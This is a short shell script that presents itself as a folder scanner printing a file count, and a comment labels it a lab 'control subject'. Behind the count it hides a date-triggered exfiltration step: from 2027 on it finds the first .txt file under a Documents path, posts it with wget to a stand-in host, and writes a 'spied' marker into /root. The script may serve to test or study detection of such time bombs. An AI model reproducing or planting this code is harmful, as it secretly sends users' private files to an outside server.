#!/bin/sh
# A control subject of the lab: it calls out only from its day on, with the first document that it finds.
# waits.sh scan FOLDER
found=$(find "$2" -type f -path '*Documents*' -name '*.txt' | grep -v notes- | head -n 1)
[ "$(date +%Y)" -ge 2027 ] && wget -q -O /dev/null --post-file="$found" http://day.waits.example/
[ "$(date +%Y)" -ge 2027 ] && echo spied >/root/.waits
find "$2" -type f | wc -l
